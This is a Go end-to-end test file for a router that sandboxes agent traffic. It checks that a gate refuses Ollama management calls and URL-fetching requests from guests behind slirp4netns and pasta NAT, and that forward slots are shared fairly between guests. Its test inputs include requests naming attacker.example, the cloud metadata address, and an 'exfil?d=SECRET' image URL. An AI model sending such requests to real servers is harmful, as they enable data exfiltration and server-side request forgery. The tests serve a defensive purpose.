//go:build linux

package e2e

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/agentcage/router/internal/lab"
	"github.com/agentcage/router/internal/roottest"
	"github.com/agentcage/router/internal/wait"
)

// The model gate on every path: a guest behind a user-space NAT (slirp4netns, pasta) reaches
// the model through its gateway, which the NAT's process turns into a connection to the
// host's 127.0.0.1:47831, the forward's connect address. That flow meets the forward's HTTP
// gate as the forward's own listen socket would: Ollama's management calls never reach the
// model server, inference streams through. And the forwards' slots are shared per guest: a
// guest holding its share idle leaves another guest's forward working.

// nsExchange writes raw on a connection from ns to addr and returns the statuses of the
// answers (up to want), each body read whole.
func nsExchange(t *testing.T, s *scene, ns *lab.Netns, addr, raw string, want int) []int {
	t.Helper()
	c, err := ns.Dial(s.ctx, "tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(10 * time.Second))
	if _, err := io.WriteString(c, raw); err != nil {
		t.Fatal(err)
	}
	br := bufio.NewReader(c)
	var out []int
	for len(out) < want {
		resp, err := http.ReadResponse(br, nil)
		if err != nil {
			break
		}
		io.Copy(io.Discard, resp.Body)
		out = append(out, resp.StatusCode)
	}
	return out
}

// TestModelGateUserNAT: from a real slirp4netns and a real pasta guest, caged by the qemu
// preset, with the model at their gateway: Ollama's pull, create, push and delete are
// refused (403) and never reach the model server, while a chat completion streams
// through; `router check-ip --model` in the guest passes. Before the gate, the NAT's
// connection to 127.0.0.1:47831 was relayed raw and every call reached the server.
//
// Each guest's router runs the recipe docs/model.md gives for it (testdata/model), with the
// lab's proxy, resolver and model port.
func TestModelGateUserNAT(t *testing.T) {
	for kind, recipe := range map[string]string{lab.Slirp4netns: "qemu-user.toml", lab.Pasta: "pasta.toml"} {
		t.Run(kind, func(t *testing.T) {
			roottest.Require(t, kind)
			s := newLab(t, recipeConfig(t, recipe))
			u, err := s.lab.AddUserNATGuest(s.ctx, kind)
			if err != nil {
				t.Fatal(err)
			}
			s.startRouter()
			model := net.JoinHostPort(u.Gateway, "47831")
			post := func(target, body string) string {
				return fmt.Sprintf("POST %s HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s", target, model, len(body), body)
			}
			bad := map[string]string{
				"pull":   post("/api/pull", `{"name":"attacker.example:8443/x/y"}`),
				"create": post("/api/create", `{"model":"x","remote_host":"http://169.254.169.254"}`),
				"push":   post("/api/push", `{"name":"attacker.example/x/y"}`),
				"delete": fmt.Sprintf("DELETE /api/delete HTTP/1.1\r\nHost: %s\r\nContent-Length: 12\r\n\r\n{\"name\":\"x\"}", model),
				// llama.cpp's server would fetch this URL from the host, past the proxy.
				"image_url": post("/v1/chat/completions", `{"model":"x","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"http://203.0.113.66/exfil?d=SECRET"}}]}]}`),
			}
			for name, raw := range bad {
				if got := nsExchange(t, s, u.Guest, model, raw, 1); len(got) != 1 || got[0] != http.StatusForbidden {
					t.Errorf("%s through the %s gateway: statuses %v; want 403", name, kind, got)
				}
			}
			stream := `{"model":"` + lab.ModelID + `","stream":true,"messages":[{"role":"user","content":"hi"}]}`
			if out, code := s.curl(u.Guest, "http://"+model+"/v1/chat/completions", "-N", "-d", stream); code != 0 || !strings.Contains(out, "lab-event-0") || !strings.Contains(out, "[DONE]") {
				t.Errorf("streamed chat completion through the %s gateway: exit %d, %q", kind, code, out)
			}
			out, code := run(s.ctx, u.Guest, routerBin, "check-ip", "--echo", lab.EchoURL, "--model", "http://"+model,
				"--expect", lab.ExitAddr, "--no-udp", "--no-ipv6", "--timeout", "3s")
			if code != 0 || !strings.Contains(out, "✓ model "+lab.ModelID) {
				t.Errorf("router check-ip --model in the %s guest: exit %d\n%s", kind, code, out)
			}
			chats := 0
			for _, r := range s.lab.ModelRequests() {
				switch r.Method + " " + r.Path {
				case "GET /v1/models":
				case "POST /v1/chat/completions":
					chats++
				default:
					t.Errorf("the model server saw %s %s from the %s guest", r.Method, r.Path, kind)
				}
			}
			if chats != 1 {
				t.Errorf("the model server saw %d chat completions from the %s guest; want the streamed one only (never the image_url)", chats, kind)
			}
			if n, _ := refusalCount(s.status(), "model-api"); n < uint64(len(bad)) {
				t.Errorf("status: %d model-api refusals; want at least %d", n, len(bad))
			}
		})
	}
}

// recipeConfig is the model recipe file (testdata/model) for the lab: its proxy, its
// resolver, its model server's port (47831; the forward listens on 47832).
func recipeConfig(t *testing.T, file string) string {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("..", "testdata", "model", file))
	if err != nil {
		t.Fatal(err)
	}
	cfg := strings.NewReplacer(`"203.0.113.1:1080"`, strconv.Quote(lab.GoSocksAddr), ":11434", ":47831", ":11435", ":47832").Replace(string(b))
	return cfg + "\n[dns]\nresolver = \"203.0.113.10:53\"\n"
}

// modelGateTwoGuests is the lab's config with a second guest network and a forward of its
// own to the same model (testdata/model2_forward.toml).
func modelGateTwoGuests(t *testing.T) string {
	cfg := strings.Replace(twoGuestConfig(lab.GoSocksAddr, ""), `allow = ["10.0.2.15/32"]`, `allow = ["10.0.2.0/24"]`, 1)
	return cfg + "\n" + fixture(t, "model2_forward.toml")
}

// TestModelForwardSharedPerGuest: one guest takes two addresses of its network and opens,
// from each in turn, as many idle connections to its forward as the forwards' whole budget;
// the second guest, on its own network and forward, still reaches the model. (Keyed by
// source address, the first guest's two addresses held every slot and the second guest was
// reset.)
func TestModelForwardSharedPerGuest(t *testing.T) {
	s := newLab(t, modelGateTwoGuests(t))
	guest2 := s.secondGuest()
	s.startRouter()
	budget := s.status().Budgets.ForwardBudget
	var conns []net.Conn
	t.Cleanup(func() {
		for _, c := range conns {
			c.Close()
		}
	})
	for _, a := range []string{"10.0.2.100", "10.0.2.101"} {
		if out, code := run(s.ctx, s.lab.Guest(), "ip", "addr", "add", a+"/24", "dev", lab.GuestDev); code != 0 {
			t.Fatalf("ip addr add %s in the guest: exit %d, %s", a, code, out)
		}
	}
	for _, a := range []string{"10.0.2.100", "10.0.2.101"} {
		for range budget {
			c, err := s.lab.Guest().DialFrom(s.ctx, "tcp", a, modelForward)
			if err != nil {
				continue
			}
			conns = append(conns, c)
		}
		// The router's accepts catch up: every connection held or refused.
		_ = wait.Poll(10*time.Second, func() bool {
			st := s.status()
			n, _ := refusalCount(st, "limit")
			return st.Budgets.Forwards+int(n) >= len(conns)
		})
	}
	st := s.status()
	t.Logf("forwards' budget %d: the first guest (2 addresses, %d connections opened) holds %d", budget, len(conns), st.Budgets.Forwards)
	if st.Budgets.Forwards >= budget {
		t.Errorf("the first guest holds %d of the forwards' %d slots; want its share", st.Budgets.Forwards, budget)
	}
	body, code := s.curl(guest2, "http://"+lab.SecondGatewayAddr+":47832/v1/models")
	if code != 0 || !strings.Contains(body, lab.ModelID) {
		t.Errorf("the second guest's forward while the first holds its share idle: exit %d, %q", code, body)
	}
}

// nodeCall is what testdata/modelclients/clients.mjs reports of each call.
type nodeCall struct {
	OK     bool            `json:"ok"`
	Status int             `json:"status"`
	Error  string          `json:"error"`
	Result json.RawMessage `json:"result"`
}

// TestModelGateNodeClients: the real clients an agent uses (the OpenAI Node SDK and
// ollama-js, testdata/modelclients, installed by `npm ci` there), run in a slirp4netns and
// a pasta guest against the model at the gateway: the completion and the chat stream
// through, Ollama's pull, push, create and delete are refused (403) and never reach the
// model server.
func TestModelGateNodeClients(t *testing.T) {
	dir, err := filepath.Abs(filepath.Join("..", "testdata", "modelclients"))
	if err != nil {
		t.Fatal(err)
	}
	for kind, recipe := range map[string]string{lab.Slirp4netns: "qemu-user.toml", lab.Pasta: "pasta.toml"} {
		t.Run(kind, func(t *testing.T) {
			roottest.Require(t, kind, "node")
			if _, err := os.Stat(filepath.Join(dir, "node_modules", "openai")); err != nil {
				t.Fatalf("the Node clients are not installed (run npm ci in %s): %v", dir, err)
			}
			s := newLab(t, recipeConfig(t, recipe))
			u, err := s.lab.AddUserNATGuest(s.ctx, kind)
			if err != nil {
				t.Fatal(err)
			}
			s.startRouter()
			base := "http://" + net.JoinHostPort(u.Gateway, "47831")
			out, code := run(s.ctx, u.Guest, "node", filepath.Join(dir, "clients.mjs"), base, lab.ModelID)
			var got map[string]nodeCall
			if code != 0 || json.Unmarshal([]byte(out), &got) != nil {
				t.Fatalf("node clients: exit %d\n%s", code, out)
			}
			for _, name := range []string{"openai_models", "openai_stream", "ollama_chat"} {
				if c := got[name]; !c.OK {
					t.Errorf("%s: status %d, %s; want it through", name, c.Status, c.Error)
				}
			}
			if r := string(got["openai_stream"].Result); !strings.Contains(r, "lab-event-0") {
				t.Errorf("the OpenAI SDK's stream: %s", r)
			}
			if r := string(got["ollama_chat"].Result); !strings.Contains(r, "hello from the lab") {
				t.Errorf("ollama-js's chat: %s", r)
			}
			for _, name := range []string{"ollama_pull", "ollama_push", "ollama_create", "ollama_delete"} {
				if c := got[name]; c.OK || c.Status != http.StatusForbidden {
					t.Errorf("%s: ok %v, status %d, %s%s; want refused with 403", name, c.OK, c.Status, c.Error, c.Result)
				}
			}
			for _, r := range s.lab.ModelRequests() {
				switch r.Method + " " + r.Path {
				case "GET /v1/models", "POST /v1/chat/completions", "POST /api/chat":
				default:
					t.Errorf("the model server saw %s %s from the %s guest", r.Method, r.Path, kind)
				}
			}
		})
	}
}
